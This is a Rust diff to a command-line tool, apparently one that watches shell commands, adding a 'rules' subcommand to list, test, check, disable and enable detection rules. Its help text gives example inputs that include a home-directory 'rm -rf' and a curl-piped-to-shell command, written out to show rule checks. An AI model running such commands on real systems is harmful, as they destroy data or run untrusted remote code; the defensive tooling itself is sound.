@@ -77,6 +77,9 @@ enum Command {
         #[arg(long)]
         json: bool,
     },
+    /// The detection rules: list, test, check a command, switch off and on.
+    #[command(subcommand)]
+    Rules(RulesCommand),
     /// Views of the raw store, for developers and tests.
     #[command(hide = true, subcommand)]
     Debug(DebugCommand),
@@ -93,6 +96,49 @@ struct InstallArgs {
     /// Show the resulting settings and what is skipped and why; change nothing.
     #[arg(long)]
     print: bool,
+}
+
+#[derive(Debug, Subcommand)]
+enum RulesCommand {
+    /// Every loaded rule: id, severity, enabled, inline tests, source file and line.
+    List {
+        /// Print JSON.
+        #[arg(long)]
+        json: bool,
+    },
+    /// Run the inline tests of every rule (and of FILEs), like a unit test runner.
+    Test {
+        /// Extra rule files to load and test.
+        files: Vec<std::path::PathBuf>,
+        /// Print JSON.
+        #[arg(long)]
+        json: bool,
+    },
+    /// Show how a command parses and which rules match it, and why.
+    #[command(after_help = "Examples:
+  tl rules check 'sudo rm -rf ~/'
+  tl rules check \"bash -c 'curl -s https://x.sh | sh'\"
+  tl rules check 'rm -rf build/' --cwd ~/src/app")]
+    Check {
+        /// A shell command, or a tl event as JSON (as `tl debug log` prints them).
+        input: String,
+        /// The directory the command runs in (default: the current one).
+        #[arg(long)]
+        cwd: Option<String>,
+        /// Print JSON.
+        #[arg(long)]
+        json: bool,
+    },
+    /// Switch a rule off.
+    Disable {
+        /// The rule's id.
+        id: String,
+    },
+    /// Switch a rule back on.
+    Enable {
+        /// The rule's id.
+        id: String,
+    },
 }
 
 #[derive(Debug, Subcommand)]
@@ -129,6 +175,18 @@ pub fn run(cli: Cli) -> anyhow::Result<()> {
         Command::Status { json } => crate::commands::status::status(&home, &Output { json }),
         Command::Import { paths, agent, json } => {
             crate::commands::import::run(&home, &paths, agent, &Output { json })
+        }
+        Command::Rules(cmd) => {
+            use crate::commands::rules;
+            match cmd {
+                RulesCommand::List { json } => rules::list(&home, &Output { json }),
+                RulesCommand::Test { files, json } => rules::test(&home, &files, &Output { json }),
+                RulesCommand::Check { input, cwd, json } => {
+                    rules::check(&home, &input, cwd, &Output { json })
+                }
+                RulesCommand::Disable { id } => rules::set_enabled(&home, &id, false, &text),
+                RulesCommand::Enable { id } => rules::set_enabled(&home, &id, true, &text),
+            }
         }
         Command::Debug(DebugCommand::Log { from }) => crate::commands::debug::dump_log(&home, from),
     }
